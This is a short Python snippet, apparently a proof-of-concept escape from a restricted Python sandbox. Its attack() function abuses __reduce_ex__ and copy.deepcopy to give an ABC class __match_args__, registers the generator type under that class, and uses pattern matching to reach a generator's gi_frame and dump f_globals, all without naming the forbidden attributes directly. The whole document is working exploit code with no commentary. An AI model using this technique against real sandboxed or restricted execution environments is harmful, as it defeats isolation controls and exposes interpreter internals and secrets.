import copy
from abc import ABC
from types import SimpleNamespace
class U(ABC): pass
def g(): yield 1
def attack():
    evil = SimpleNamespace(**{"__reduce_ex__": lambda p: (lambda: U, (), (None, {"__match_args__": ("gi_frame",)}))})
    copy.deepcopy(evil)
    gen = g()
    U.register(type(gen))
    match gen:
        case U(frame):
            return {"proof": str(frame.f_globals)}
